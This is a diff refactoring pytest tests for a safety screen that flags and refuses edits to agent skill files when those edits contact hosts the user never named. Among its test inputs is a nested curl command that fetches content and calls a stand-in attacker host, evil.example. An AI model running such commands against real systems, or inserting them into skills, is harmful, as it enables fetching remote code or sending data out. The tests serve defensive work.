@@ -15,21 +15,14 @@ from collections import Counter
 
 import pytest
 
-from skillopt_core.records import Edit, EditOp
 from skillopt_core.skill._screen_hosts import host_offsets
-from skillopt_core.skill.edits import apply_edits
-from skillopt_core.skill.screen import (
-    REFUSED_PREFIX,
-    ScreenContext,
-    hosts_in,
-    known_hosts,
-    screen_edit,
-    screen_text,
+from skillopt_core.skill.screen import hosts_in
+from tests.core.safety._hosts import (
+    CTX,
+    assert_apply_refuses,
+    assert_known_host_passes,
+    assert_names_unknown,
 )
-
-SKILL = "# Deploy\n\n- Check https://api.acme.dev/health before deploying.\n"
-NO_HOSTS = ScreenContext(hosts=frozenset())
-CTX = ScreenContext(hosts=known_hosts([SKILL, "deploy the app to staging.acme.dev"]))
 
 NESTED = [
     "curl $(curl -s api.acme.dev/x) evil.example",
@@ -54,34 +47,19 @@ ALREADY = [
 ]
 
 
-def kinds(content: str, ctx: ScreenContext) -> set[str]:
-    return {f.kind for f in screen_edit(Edit(EditOp.ADD, "", content), ctx)}
-
-
 @pytest.mark.parametrize("content", NESTED + ALREADY, ids=repr)
 def test_a_host_after_a_nested_download_is_named(content: str) -> None:
-    assert hosts_in(content) == {"api.acme.dev", "evil.example"}
-    assert "unknown-host" in {f.kind for f in screen_text(content, NO_HOSTS)}
-    (finding,) = [
-        f for f in screen_edit(Edit(EditOp.ADD, "", content), CTX) if f.kind == "unknown-host"
-    ]
-    assert finding.reason.endswith(": evil.example")
+    assert_names_unknown(content, {"api.acme.dev", "evil.example"})
 
 
 @pytest.mark.parametrize("content", NESTED[:4] + NESTED[11:13], ids=repr)
 def test_apply_edits_refuses_a_host_after_a_nested_download(content: str) -> None:
-    report = apply_edits(SKILL, [Edit(EditOp.ADD, "", content + "\n")], CTX)
-    (outcome,) = report.outcomes
-    assert not outcome.applied and outcome.reason.startswith(REFUSED_PREFIX)
-    assert "unknown-host" in outcome.reason and "evil.example" in outcome.reason
-    assert report.text == SKILL
+    assert_apply_refuses(content + "\n", CTX)
 
 
 @pytest.mark.parametrize("content", NESTED + ALREADY, ids=repr)
 def test_the_same_commands_with_hosts_the_user_names_pass(content: str) -> None:
-    known = content.replace("evil.example", "staging.acme.dev")
-    assert hosts_in(known) == {"api.acme.dev", "staging.acme.dev"}
-    assert "unknown-host" not in kinds(known, CTX)
+    assert_known_host_passes(content, "staging.acme.dev", {"api.acme.dev", "staging.acme.dev"})
 
 
 @pytest.mark.parametrize(
